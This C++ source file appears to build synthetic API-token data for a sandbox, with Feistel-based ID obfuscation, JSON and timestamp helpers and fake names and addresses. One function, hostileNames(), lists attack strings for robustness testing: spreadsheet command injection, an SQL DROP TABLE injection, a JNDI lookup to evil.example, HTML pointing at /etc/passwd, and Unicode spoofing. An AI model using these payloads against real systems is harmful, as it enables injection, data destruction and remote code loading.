#include "network/sandbox/invented.h"

#include <chrono>
#include <vector>

namespace latchkey::sandbox {

namespace {

constexpr std::string_view Alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
constexpr int DigitsOfHalf = 6; // 62^6 > 2^32
constexpr int HidingDigits = 2 * DigitsOfHalf;
constexpr int Rounds = 4;

constexpr std::array<std::string_view, 40> GivenNames = {
    "Ines",   "Ann",   "Bruno",  "Carla", "Deepak", "Elif",  "Farid",  "Greta", "Hugo",  "Ilse",
    "Jonas",  "Kaito", "Leila",  "Marek", "Nadia",  "Oscar", "Priya",  "Quinn", "Rosa",  "Stefan",
    "Tomoko", "Ulla",  "Victor", "Wanda", "Xavier", "Yusuf", "Zoe",    "Amara", "Bela",  "Chidi",
    "Dana",   "Emil",  "Fatima", "Goran", "Hana",   "Ivan",  "Jasmin", "Kofi",  "Lucia", "Mateo",
};
constexpr std::array<std::string_view, 40> FamilyNames = {
    "Aguilar",  "Becker",    "Castro", "Dubois",   "Eriksen", "Fischer",   "Garcia",    "Haddad",  "Ivanov", "Jensen",
    "Kowalski", "Lindqvist", "Moreau", "Nakamura", "Okafor",  "Petrov",    "Quintero",  "Rossi",   "Sato",   "Tanaka",
    "Ueda",     "Varga",     "Weber",  "Xu",       "Yilmaz",  "Zhang",     "Andersson", "Bianchi", "Costa",  "Diaz",
    "Endo",     "Farkas",    "Gupta",  "Horvat",   "Ito",     "Johansson", "Kim",       "Lopez",   "Martin", "Novak",
};
constexpr std::array<std::string_view, 16> Tools = {
    "terraform", "jenkins",   "github-actions", "gitlab-ci", "fastly-exporter", "datadog", "purge-bot",  "argo-cd",
    "circleci",  "pagerduty", "grafana",        "ansible",   "wordpress-purge", "drupal",  "deploy-bot", "backup",
};
constexpr std::array<std::string_view, 8> Stages = {
    "production", "staging", "dev", "qa", "preview", "canary", "eu", "us-east",
};
constexpr std::array<std::string_view, 16> Sites = {
    "www",    "checkout", "images", "api",  "static", "blog",    "docs",   "search",
    "mobile", "video",    "login",  "feed", "cdn",    "partner", "status", "legacy",
};
constexpr std::array<std::string_view, 8> Things = {
    "laptop", "test", "local dev", "cli", "debugging", "temporary, delete me", "DO NOT DELETE", "old",
};
constexpr std::array<std::string_view, 6> Browsers = {
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
};
constexpr std::array<std::string_view, 10> Machines = {
    "FastlyGo/9.13.1 (+github.com/fastly/go-fastly; go1.24.0)",
    "FastlyGo/2.1.0 (+github.com/fastly/go-fastly; go1.15.4)",
    "FastlyCLI/v10.12.3, FastlyGo/9.7.0 (+github.com/fastly/go-fastly; go1.22.4)",
    "terraform-provider-fastly/5.11.0 FastlyGo/9.7.0 (+github.com/fastly/go-fastly; go1.22.4)",
    "Terraform/1.8.5 (+https://www.terraform.io) Terraform-Plugin-SDK/2.34.0 terraform-provider-fastly/5.11.0",
    "FastlyGo/9.12.0 (+github.com/fastly/go-fastly; go1.23.5) github.com/fastly/fastly-exporter/9.0.0",
    "GitHub-Actions/2.316.1 fastly-purge-action/3.2.0 (linux; x64; node 20.13.1) fastly-js/8.1.0",
    "Jenkins/2.452.2 fastly-plugin/1.14 Apache-HttpClient/4.5.14 (Java/17.0.11; Linux 5.10.0-30-amd64)",
    "curl/8.5.0",
    "python-requests/2.32.3",
};

void appendDigits(quint64 number, int count, std::string &to)
{
    for (int i = 0; i < count; ++i) {
        to += Alphabet[number % Alphabet.size()];
        number /= Alphabet.size();
    }
}

std::optional<quint64> digits(std::string_view text)
{
    quint64 number = 0;
    for (auto digit = text.rbegin(); digit != text.rend(); ++digit) {
        const std::size_t value = Alphabet.find(*digit);
        if (value == std::string_view::npos)
            return std::nullopt;
        number = number * Alphabet.size() + value;
    }
    return number;
}

} // namespace

// A Feistel network: any function as round makes a permutation of 64 bits, so no two numbers share a text.
quint32 HiddenNumbers::round(int index, quint32 half) const
{
    return quint32(mixed(m_key ^ (quint64(index) << 40) ^ half));
}

void HiddenNumbers::append(quint64 number, std::string &to) const
{
    auto left = quint32(number >> 32);
    auto right = quint32(number);
    for (int i = 0; i < Rounds; ++i)
        left = std::exchange(right, left ^ round(i, right));

    const quint64 salt = mixed(m_key + number);
    appendDigits(left, DigitsOfHalf, to);
    appendDigits(right, DigitsOfHalf, to);
    int missing = m_shortest + int(salt % quint64(m_longest - m_shortest + 1)) - HidingDigits;
    for (quint64 more = salt; missing > 0; missing -= 10, more = mixed(more))
        appendDigits(more, qMin(missing, 10), to);
}

std::string HiddenNumbers::text(quint64 number) const
{
    std::string text;
    append(number, text);
    return text;
}

std::optional<quint64> HiddenNumbers::number(std::string_view text) const
{
    if (text.size() < HidingDigits)
        return std::nullopt;
    const auto first = digits(text.substr(0, DigitsOfHalf));
    const auto second = digits(text.substr(DigitsOfHalf, DigitsOfHalf));
    constexpr quint64 HalfMax = 0xffffffff;
    if (!first || !second || *first > HalfMax || *second > HalfMax)
        return std::nullopt;
    auto left = quint32(*first);
    auto right = quint32(*second);
    for (int i = Rounds - 1; i >= 0; --i)
        right = std::exchange(left, right ^ round(i, left));

    const quint64 number = quint64(left) << 32 | right;
    return this->text(number) == text ? std::optional(number) : std::nullopt;
}

void appendIsoTime(qint64 secondsSinceEpoch, std::string &to)
{
    using namespace std::chrono;
    const sys_seconds time{seconds(secondsSinceEpoch)};
    const auto midnight = floor<days>(time);
    const year_month_day date(midnight);
    const hh_mm_ss clock(time - midnight);
    char text[] = "0000-00-00T00:00:00Z";
    const auto put = [&text](int at, unsigned value) {
        text[at] = char('0' + value / 10);
        text[at + 1] = char('0' + value % 10);
    };
    put(0, unsigned(int(date.year())) / 100);
    put(2, unsigned(int(date.year())) % 100);
    put(5, unsigned(date.month()));
    put(8, unsigned(date.day()));
    put(11, unsigned(clock.hours().count()));
    put(14, unsigned(clock.minutes().count()));
    put(17, unsigned(clock.seconds().count()));
    to.append(text, sizeof text - 1);
}

void appendJsonText(std::string_view utf8, std::string &to)
{
    constexpr std::string_view Hex = "0123456789abcdef";
    to += '"';
    for (const char c : utf8) {
        if (c == '"' || c == '\\') {
            to += '\\';
            to += c;
        } else if (static_cast<unsigned char>(c) < 0x20) {
            to += "\\u00";
            to += Hex[std::size_t(c) >> 4];
            to += Hex[std::size_t(c) & 15];
        } else {
            to += c;
        }
    }
    to += '"';
}

std::string_view givenName(quint64 index) { return GivenNames[index % GivenNames.size()]; }

std::string_view familyName(quint64 index) { return FamilyNames[index % FamilyNames.size()]; }

std::span<const std::string> hostileNames()
{
    static const std::vector<std::string> names = {
        "<img src=file:///etc/passwd>",
        "<b>production</b> <a href=\"https://evil.example/\">keep</a>",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "keep \u202Eevoker",
        "pro\u200Bduc\u200Dtion\uFEFF",
        "pr\u043Educti\u043En deploy",
        "terraforrn-production-www",
        "\"},{\"id\":\"0000000000000000000000\",\"name\":\"forged",
        "back\\slash \\u0041 \"quoted\"",
        "line\nbreak\tand\x1b[31m red",
        "\U0001F511\U0001F525 launch key \U0001F469\u200D\U0001F4BB",
        "  leading and trailing  ",
        "",
        "null",
        "مفتاح الإنتاج",
        "' OR 1=1; DROP TABLE tokens; --",
        "%s%n ${jndi:ldap://evil.example/a} {{7*7}}",
        std::string(2000, 'x') + " end of a very long name",
    };
    return names;
}

void appendTokenName(Chance &chance, std::string &to)
{
    switch (chance.below(6)) {
    case 0:
    case 1:
        to.append(chance.oneOf(Tools)).append("-").append(chance.oneOf(Stages)).append("-").append(chance.oneOf(Sites));
        return;
    case 2:
        to.append(chance.oneOf(Sites)).append(" purge on deploy (").append(chance.oneOf(Stages)).append(")");
        return;
    case 3:
        to.append(chance.oneOf(GivenNames)).append("'s ").append(chance.oneOf(Things));
        return;
    case 4:
        to.append(chance.oneOf(Tools)).append(" ").append(std::to_string(chance.below(10'000)));
        return;
    default:
        to.append(chance.oneOf(Tools));
    }
}

std::string_view browserAgent(quint64 index) { return Browsers[index % Browsers.size()]; }

std::string_view machineAgent(quint64 index) { return Machines[index % Machines.size()]; }

void appendAddress(Chance &chance, std::string &to)
{
    if (chance.percent(8)) {
        to.append("2001:db8:")
            .append(std::to_string(chance.below(9999)))
            .append("::")
            .append(std::to_string(chance.below(9999)));
        return;
    }
    // The three blocks that are kept for documentation (RFC 5737): nobody's real address.
    constexpr std::array<std::string_view, 3> blocks = {"192.0.2.", "198.51.100.", "203.0.113."};
    to.append(chance.oneOf(blocks)).append(std::to_string(chance.below(256)));
}

} // namespace latchkey::sandbox
